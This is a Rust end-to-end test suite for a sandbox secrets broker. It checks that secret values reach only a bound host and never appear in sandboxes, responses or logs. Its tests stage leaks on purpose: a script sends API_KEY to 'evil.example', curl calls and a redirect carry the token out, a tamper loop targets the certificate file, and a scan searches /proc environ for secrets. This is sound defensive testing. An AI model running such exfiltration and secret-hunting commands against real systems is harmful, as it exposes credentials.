//! Secrets: the sandbox sees placeholders, only the bound host receives values, and responses contain no
//! values. The tests use a real server in a simulated network, and unmodified programs.

use std::path::Path;
use std::time::Duration;

use api::SandboxId;
use api::account::Role;
use api::exec::{ExecSpec, Outcome};
use api::policy::Policy;
use api::sandbox::{CreateSandbox, Tier};
use api::secret::PutSecret;
use client::Client;
use e2e::service::{PLENTY, Service, served, small};
use e2e::tmux::Tmux;
use e2e::world::{World, in_a_world};

const CANARY: &str = "canary-5f0e9c2b+77/31d4=";
const NEXT: &str = "canary-of-tomorrow-8c1d";
/// Policy of most tests. It binds the secret to one path on one host.
const BOUND: [&str; 4] = ["good.example", "evil.example", "*.good.example", "secret:API_KEY=good.example/v1"];

/// Python program that sends the secret to a URL in the given header and prints the response.
const ASK: &str = "
import os, sys, urllib.request, urllib.error
header, url, body = sys.argv[1], sys.argv[2], sys.argv[3].encode() if len(sys.argv) > 3 else None
class Stay(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_): return None
opener = urllib.request.build_opener(Stay)
request = urllib.request.Request(url, body, {header: 'Bearer ' + os.environ['API_KEY'], **({'range': 'bytes=0-11'} if 'range' in url else {})})
try:
    answer = opener.open(request, timeout=20)
    print(answer.status, answer.reason, dict(answer.headers), answer.read().decode())
except urllib.error.HTTPError as error:
    print(error.code, error.reason, dict(error.headers), error.read().decode())
except OSError as error:
    print('failed', error)
";

async fn on_each_tier(world: &World, test: impl AsyncFn(&mut Service, Tier)) {
    for tier in e2e::service::tiers() {
        test(&mut world.service(), tier).await;
    }
}

async fn set(client: &Client, name: &str, value: &str) {
    client.put_secret(name, &PutSecret { value: value.into() }).await.unwrap();
}

async fn sandbox(client: &Client, tier: Tier, words: &[&str]) -> SandboxId {
    let policy = Some(Policy::of_words(words).unwrap());
    client.create(&CreateSandbox { tier, policy, ..small() }).await.unwrap().id
}

async fn run(client: &Client, id: &SandboxId, argv: &[&str]) -> String {
    let argv = argv.iter().map(|word| (*word).to_owned()).collect();
    let spec = ExecSpec { argv, deadline_ms: Some(60_000), ..ExecSpec::default() };
    let done = client.exec(id, &spec).await.unwrap().collect().await.unwrap();
    let (said, errors) = (String::from_utf8_lossy(&done.stdout), String::from_utf8_lossy(&done.stderr));
    assert_eq!(done.end.outcome, Outcome::Exited { code: 0 }, "{said}{errors}");
    format!("{said}{errors}")
}

async fn ask(client: &Client, id: &SandboxId, rest: &[&str]) -> String {
    run(client, id, &[&["python3", "-c", ASK], rest].concat()).await
}

/// Returns the last request that a simulated host received over TLS.
fn last(world: &World) -> serde_json::Value {
    requests_of(world).last().unwrap().clone()
}

fn requests_of(world: &World) -> Vec<serde_json::Value> {
    let mut said = world.seen()["said"].as_array().unwrap().clone();
    said.retain(|one| one["tls"] == true);
    said
}

/// Only requests to the bound host carry the value. Everything else sees a placeholder.
#[test]
#[ignore = "starts real sandboxes"]
fn a_placeholder_becomes_the_value_at_its_place_and_nowhere_else() {
    in_a_world(async |world| {
        on_each_tier(world, async |service, tier| {
            let client = service.client();
            set(&client, "API_KEY", CANARY).await;
            let id = sandbox(&client, tier, &BOUND).await;
            let inside = run(&client, &id, &["printenv", "API_KEY"]).await.trim().to_owned();
            assert!(inside.starts_with("bellglass-secret-API_KEY-"), "{inside}");
            let real = format!("Bearer {CANARY}");
            let placeholder = format!("Bearer {inside}");
            // Attack S-02 fails: every other header, path and host gets only the placeholder.
            for (header, url, gets) in [
                ("authorization", "https://good.example/v1/a", &real),
                ("authorization", "https://good.example/v1", &real),
                ("authorization", "https://good.example/v10", &placeholder),
                ("authorization", "https://good.example/", &placeholder),
                ("authorization", "https://evil.example/v1/a", &placeholder),
                ("authorization", "https://www.good.example/v1/a", &placeholder),
                ("x-other", "https://good.example/v1/a", &placeholder),
            ] {
                let strange = url.contains("evil") || url.contains("www");
                let said = if strange {
                    // The connection is not intercepted, so the program sees the host's own certificate,
                    // which the template does not trust.
                    let refused = ask(&client, &id, &[header, url]).await;
                    assert!(refused.contains("CERTIFICATE_VERIFY_FAILED"), "{url}: {refused}");
                    let token = format!("{header}: {placeholder}");
                    run(&client, &id, &["curl", "-sk", "-H", &token, url]).await
                } else {
                    ask(&client, &id, &[header, url]).await
                };
                let seen = last(world);
                assert_eq!(seen["headers"][header], **gets, "{url}: {seen} {said}");
                assert!(!said.contains(CANARY), "{url}: {said}");
            }
            let body = format!("token={inside}");
            ask(&client, &id, &["x-other", "https://good.example/v1/a", &body]).await;
            assert_eq!(last(world)["body"], body.as_str());
            let clear = run(
                &client,
                &id,
                &["curl", "-s", "-H", &format!("authorization: {placeholder}"), "http://good.example/v1/a"],
            )
            .await;
            assert!(clear.contains(&inside), "{clear}");
            let log = std::fs::read_to_string(service.data().join("audit.log")).unwrap();
            assert!(log.contains("good.example:443 GET /v1/a with API_KEY: good.example"), "{log}");
            assert!(!log.contains(CANARY));
        })
        .await;
    });
}

/// Programs of all kinds trust the project's certificate authority, and cannot change it. A sandbox without a
/// secret trusts no additional certificate authority.
#[test]
#[ignore = "starts real sandboxes"]
fn programs_trust_the_project_where_a_secret_is_bound_and_see_the_hosts_own_certificate_elsewhere() {
    in_a_world(async |world| {
        on_each_tier(world, async |service, tier| {
            let client = service.client();
            set(&client, "API_KEY", CANARY).await;
            let id = sandbox(&client, tier, &BOUND).await;
            let curl = "curl -s -u user:$API_KEY https://good.example/v1/a && curl -s -x socks5h://127.0.0.1:3128 -H \"authorization: $API_KEY\" https://good.example/v1/b";
            let said = run(&client, &id, &["sh", "-c", curl]).await;
            assert!(said.contains("\"/v1/a\"") && said.contains("\"/v1/b\""), "{said}");
            assert_eq!(last(world)["headers"]["authorization"], CANARY);
            let seen = requests_of(world).iter().rev().nth(1).unwrap().clone();
            let login = seen["headers"]["authorization"].as_str().unwrap();
            assert_eq!(login, format!("Basic {}", base64(&format!("user:{CANARY}"))), "{seen}");
            let requests = "
import os
from pip._vendor import requests
session = requests.Session()
for n in range(3):
    print(session.get(f'https://good.example/v1/{n}', headers={'authorization': os.environ['API_KEY']}).json()['path'])";
            assert_eq!(run(&client, &id, &["python3", "-c", requests]).await, "/v1/0\n/v1/1\n/v1/2\n");
            assert_eq!(last(world)["headers"]["authorization"], CANARY);
            let issuer = "echo | openssl s_client -proxy 127.0.0.1:3128 -connect \"$0\":443 -servername \"$0\" 2>/dev/null | openssl x509 -noout -issuer -subject -ext subjectAltName";
            let bound = run(&client, &id, &["sh", "-c", issuer, "good.example"]).await;
            assert!(bound.contains("Sandboxes of default") && bound.contains("DNS:good.example\n"), "{bound}");
            for host in ["www.good.example", "evil.example"] {
                let own = run(&client, &id, &["sh", "-c", issuer, host]).await;
                assert!(own.contains("CN = world") && own.contains("CN = hosts"), "{own}");
            }
            let meddle = "
for act in 'echo x >> $SSL_CERT_FILE' 'rm -f $SSL_CERT_FILE' 'mv $SSL_CERT_FILE /tmp/x' 'echo x > /.bellglass/spool/y' 'ls /.bellglass/spool' 'chmod 777 /.bellglass/spool'; do
    if eval \"$act\" 2>/dev/null; then echo \"could: $act\"; fi
done
grep -c BEGIN $SSL_CERT_FILE";
            let said = run(&client, &id, &["sh", "-c", meddle]).await;
            assert!(!said.contains("could") && said.trim().parse::<u32>().unwrap() > 50, "{said}");
            let other = sandbox(&client, tier, &["good.example"]).await;
            let said = run(&client, &other, &["sh", "-c", "echo ${SSL_CERT_FILE-none} ${API_KEY-none}; ls /.bellglass/spool/authorities.pem 2>&1 || true"]).await;
            assert!(said.starts_with("none none\n") && !said.contains("\n/.bellglass/spool/authorities.pem"), "{said}");
            let own = run(&client, &other, &["sh", "-c", issuer, "good.example"]).await;
            assert!(own.contains("CN = hosts"), "{own}");
        })
        .await;
    });
}

/// Verifies that attack S-02 fails: if a response reflects a request, it does not contain the value, whatever
/// its encoding and however it is split.
#[test]
#[ignore = "starts real sandboxes"]
fn an_echo_tells_nothing() {
    in_a_world(async |world| {
        on_each_tier(world, async |service, tier| {
            let client = service.client();
            set(&client, "API_KEY", CANARY).await;
            let id = sandbox(&client, tier, &BOUND).await;
            let encoded = "canary-5f0e9c2b%2B77%2F31d4%3D";
            for (kind, code) in [
                ("plain", "200"),
                ("split", "200"),
                ("trailer", "200"),
                ("header", "200"),
                ("status", "200"),
                ("redirect", "302"),
                ("base64", "200"),
                ("percent", "200"),
                ("json", "200"),
                ("range", "200"),
                ("packed", "502"),
                ("upgrade", "502"),
            ] {
                let said = ask(&client, &id, &["authorization", &format!("https://good.example/v1/reflect/{kind}")]).await;
                assert!(said.starts_with(code), "{kind}: {said}");
                for form in [CANARY, encoded, "canary", &base64(CANARY)[..16], &base64(&format!("x:Bearer {CANARY}"))[16..]] {
                    assert!(!said.contains(form), "{kind}: {said}");
                }
                assert_eq!(last(world)["headers"]["authorization"], format!("Bearer {CANARY}"), "{kind}: the host had it");
                if ["plain", "split", "json", "range"].contains(&kind) {
                    assert!(said.contains(&format!("Bearer {}", "*".repeat(CANARY.len()))), "{kind}: {said}");
                }
            }
            // The program itself follows the redirect, and has only the placeholder to send.
            let curl = "curl -sLk --location-trusted -H \"authorization: Bearer $API_KEY\" https://good.example/v1/reflect/redirect; echo; echo $API_KEY";
            let said = run(&client, &id, &["sh", "-c", curl]).await;
            let seen = last(world);
            assert_eq!(seen["here"], e2e::world::EVIL, "{seen} {said}");
            assert!(!seen.to_string().contains("canary") && seen["headers"]["authorization"].as_str().unwrap().contains("bellglass-secret-"), "{seen}");
            let upgrade = "curl -s -i --http1.1 -H 'connection: upgrade' -H 'upgrade: websocket' -H \"authorization: Bearer $API_KEY\" https://good.example/v1/reflect/upgrade";
            let said = run(&client, &id, &["sh", "-c", upgrade]).await;
            assert!(said.contains("403") && said.contains("WebSockets and other upgrades are not allowed"), "{said}");
        })
        .await;
    });
}

/// A change to a secret takes effect at the next request, even after a kill of the server. Requests that use
/// a removed secret are refused with an error that names the secret.
#[test]
#[ignore = "starts real sandboxes"]
fn a_secret_is_changed_and_removed_under_a_running_sandbox() {
    in_a_world(async |world| {
        on_each_tier(world, async |service, tier| {
            let client = service.client();
            set(&client, "API_KEY", CANARY).await;
            let id = sandbox(&client, tier, &BOUND).await;
            let url = "https://good.example/v1/a";
            let used = || last(world)["headers"]["authorization"].as_str().unwrap().to_owned();
            ask(&client, &id, &["authorization", url]).await;
            assert_eq!(used(), format!("Bearer {CANARY}"));
            set(&client, "API_KEY", NEXT).await;
            let said = ask(&client, &id, &["authorization", "https://good.example/v1/reflect/plain"]).await;
            assert!(!said.contains("tomorrow"), "{said}");
            assert_eq!(used(), format!("Bearer {NEXT}"));
            let before = run(&client, &id, &["sh", "-c", "echo $API_KEY; sha256sum $SSL_CERT_FILE"]).await;
            service.kill();
            service.begin();
            let said = ask(&client, &id, &["authorization", url]).await;
            assert!(said.starts_with("200"), "{said}");
            assert_eq!(used(), format!("Bearer {NEXT}"));
            let after = run(&client, &id, &["sh", "-c", "echo $API_KEY; sha256sum $SSL_CERT_FILE"]).await;
            assert_eq!(before, after, "the placeholder and the authority stay");
            client.remove_secret("API_KEY").await.unwrap();
            let said = ask(&client, &id, &["authorization", url]).await;
            assert!(
                said.starts_with("403") && said.contains("the secret API_KEY is no longer set"),
                "{said}"
            );
            assert!(ask(&client, &id, &["x-other", url]).await.starts_with("200"), "the rest goes on");
            let refused =
                client.set_policy(&id, &Policy::of_words(&BOUND).unwrap()).await.unwrap_err().to_string();
            assert!(refused.contains("project default has no secret API_KEY"), "{refused}");
            // Without the binding, the broker no longer intercepts TLS to the host.
            client.set_policy(&id, &Policy::of_words(&BOUND[..3]).unwrap()).await.unwrap();
            let said = run(
                &client,
                &id,
                &[
                    "sh",
                    "-c",
                    "echo ${API_KEY-none}; curl -sk -H 'authorization: x' https://good.example/v1/a",
                ],
            )
            .await;
            assert!(said.starts_with("none\n") && said.contains("/v1/a"), "{said}");
        })
        .await;
    });
}

/// Verifies that attack S-03 fails: a secret belongs to its project, and a binding that cannot work is
/// refused before a sandbox is created.
#[test]
#[ignore = "starts real sandboxes"]
fn a_secret_is_its_projects_and_what_cannot_be_used_is_refused_by_name() {
    in_a_world(async |world| {
        let service = world.service();
        let client = service.client();
        set(&client, "API_KEY", CANARY).await;
        let other = service.client_of("other", Role::Write, PLENTY).await;
        assert!(other.secrets().await.unwrap().is_empty());
        let words =
            |words: &[&str]| CreateSandbox { policy: Some(Policy::of_words(words).unwrap()), ..small() };
        for (asking, policy, why) in [
            (&other, &BOUND[..], "project other has no secret API_KEY"),
            (&client, &["secret:API_KEY=good.example"][..], "which the policy does not allow"),
            (
                &client,
                &["good.example:80", "secret:API_KEY=good.example"][..],
                "which the policy does not allow",
            ),
        ] {
            let refused = asking.create(&words(policy)).await.unwrap_err().to_string();
            assert!(refused.contains(why), "{refused}");
        }
        let reader = service.client_of("default", Role::Read, PLENTY).await;
        assert_eq!(reader.secrets().await.unwrap().len(), 1);
        assert!(reader.put_secret("API_KEY", &PutSecret { value: NEXT.into() }).await.is_err());
        assert!(reader.remove_secret("API_KEY").await.is_err());
        // A rule for methods and paths also applies within TLS, because the broker reads each request.
        let id = client
            .create(&words(&["GET good.example/v1/*", "secret:API_KEY=good.example"]))
            .await
            .unwrap()
            .id;
        assert!(ask(&client, &id, &["authorization", "https://good.example/v1/a"]).await.starts_with("200"));
        for (url, body) in [("https://good.example/v2", None), ("https://good.example/v1/a", Some("x"))] {
            let rest: Vec<&str> = ["authorization", url].into_iter().chain(body).collect();
            let said = ask(&client, &id, &rest).await;
            assert!(
                said.starts_with("403") && said.contains("the rule for this host does not allow"),
                "{said}"
            );
        }
    });
}

/// Verifies that attack S-06 fails: the server stores the value only in encrypted form, and no process
/// inside, response or log contains it.
#[test]
#[ignore = "starts real sandboxes"]
fn the_value_is_nowhere() {
    in_a_world(async |world| {
        on_each_tier(world, async |service, tier| {
            let client = service.client();
            let plain = "canary0123456789abcdef";
            let mut told = String::new();
            for body in [r#""canary0123456789abcdef""#, r#"{"value":["canary0123456789abcdef"]}"#, r#"{"value":"canary0123456789abcdef","x":1}"#, r#"{"value":"canary0123456789abcdef\n"}"#, r#"{"canary0123456789abcdef":1}"#] {
                let answer = service.wire().ask("PUT", "/v1/secrets/API_KEY", Some(&serde_json::from_str(body).unwrap())).await;
                assert_eq!(answer.status, 400, "{}", answer.body);
                told += &answer.body;
            }
            let mut command = service.command(&["secret", "set", "API_KEY"]);
            let file = tempfile(plain);
            let done = command.stdin(std::fs::File::open(file.path()).unwrap()).output().unwrap();
            assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
            told += &String::from_utf8_lossy(&[done.stdout, done.stderr].concat());
            for words in [&["secret", "list", "--json"][..], &["secret", "list"]] {
                let done = service.command(words).output().unwrap();
                assert!(String::from_utf8_lossy(&done.stdout).contains("API_KEY"));
                told += &String::from_utf8_lossy(&done.stdout);
            }
            let id = sandbox(&client, tier, &BOUND).await;
            let placeholder = run(&client, &id, &["printenv", "API_KEY"]).await.trim().to_owned();
            for kind in ["plain", "split", "header", "packed"] {
                told += &ask(&client, &id, &["authorization", &format!("https://good.example/v1/reflect/{kind}")]).await;
            }
            assert_eq!(last(world)["headers"]["authorization"], format!("Bearer {plain}"), "it was used");
            // This process keeps running, so that the search can find the placeholder in it.
            let spec = ExecSpec { argv: ["sh", "-c", "echo $API_KEY > /workspace/kept; sleep 60"].map(str::to_owned).to_vec(), ..ExecSpec::default() };
            client.start(&id, &spec).await.unwrap();
            let search = "
import os, sys
words, found = [bytes.fromhex(word) for word in sys.argv[1:]], [0, 0]
for top in ('/proc', '/workspace', '/tmp', '/home', '/dev/shm', '/etc', '/run', '/var', '/.bellglass'):
    for where, directories, files in os.walk(top):
        if where.count('/') > 6 or '/task' in where: directories[:] = []
        for name in files:
            if top == '/proc' and name not in ('environ', 'cmdline', 'maps', 'mountinfo', 'status', 'stat', 'comm'): continue
            try:
                with open(os.path.join(where, name), 'rb') as file: text = file.read(1 << 24)
            except OSError: continue
            for n, word in enumerate(words): found[n] += word in text
print(*found)";
            let hex = |text: &str| text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
            let said = run(&client, &id, &["python3", "-c", search, &hex(plain), &hex(&placeholder)]).await;
            let counts: Vec<u32> = said.split_whitespace().map(|one| one.parse().unwrap()).collect();
            assert!(counts[0] == 0 && counts[1] > 1, "{said}");
            for path in ["/metrics", "/openapi.json", "/v1/secrets", "/v1/sandboxes", "/healthz"] {
                told += &service.wire().ask("GET", path, None).await.body;
            }
            told += &service.words();
            assert!(!told.contains(plain), "{told}");
            let everywhere = |word: &str| holding(service.data(), word.as_bytes());
            assert!(everywhere(plain).is_empty(), "{:?}", everywhere(plain));
            // Control: the search does find words that exist.
            assert!(everywhere("API_KEY").iter().any(|path| path.contains("bellglass.db")) && everywhere("secret_set").iter().any(|path| path.ends_with("audit.log")));
        })
        .await;
    });
}

/// The command prompts for the value without echoing it.
#[test]
#[ignore = "starts real sandboxes"]
fn a_value_is_typed_unseen() {
    served(async || {
        let service = Service::start();
        let command = format!(
            "{} secret set API_KEY; {0} secret set OTHER; stty -a | grep -o ' -*echo '; sleep 60",
            e2e::service::binary().display()
        );
        let env = [("BELLGLASS_SERVER", service.url()), ("BELLGLASS_API_KEY", service.key.clone())];
        let env = env.each_ref().map(|(name, value)| (*name, value.as_str()));
        let tmux = Tmux::run(&command, 100, 30, &env);
        let shows = Duration::from_secs(10);
        let asks = |name: &'static str| {
            move |screen: &[String]| screen.iter().any(|row| row.trim_end() == format!("value of {name}:"))
        };
        tmux.until(shows, "a question", asks("API_KEY")).await;
        // This value is longer than the line buffer of the kernel's terminal.
        tmux.line(&"canary-5f0e".repeat(500));
        tmux.until(shows, "the next question", asks("OTHER")).await;
        tmux.text("canary-5f0e");
        tmux.keys(&["C-c"]);
        tmux.until(shows, "the terminal as it was", |screen| screen.iter().any(|row| row.trim() == "echo"))
            .await;
        let history = tmux.history();
        assert!(!history.contains("canary") && history.contains("interrupted: nothing was set"), "{history}");
        let names: Vec<String> =
            service.client().secrets().await.unwrap().into_iter().map(|one| one.name).collect();
        assert_eq!(names, ["API_KEY"]);
    });
}

fn tempfile(text: &str) -> tempfile::NamedTempFile {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), format!("{text}\n")).unwrap();
    file
}

/// Returns the files below a directory that contain these bytes.
fn holding(directory: &Path, word: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(directory).into_iter().flatten().flatten() {
        let path = entry.path();
        let Ok(kind) = entry.file_type() else { continue };
        // Layers are symlinks to the tests' shared layers, which contain no data of this server.
        if kind.is_dir() {
            found.extend(holding(&path, word));
        } else if kind.is_file() {
            let bytes = std::fs::read(&path).unwrap_or_default();
            if bytes.windows(word.len()).any(|window| window == word) {
                found.push(path.display().to_string());
            }
        }
    }
    found
}

/// Encodes text in base64, as specified by RFC 4648.
fn base64(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut coded = String::new();
    for three in text.as_bytes().chunks(3) {
        let all =
            three.iter().fold(0_u32, |all, byte| all << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for place in 0..4 {
            let digit = DIGITS[usize::try_from(all >> (18 - 6 * place) & 63).unwrap()];
            coded.push(if place <= three.len() { char::from(digit) } else { '=' });
        }
    }
    coded
}
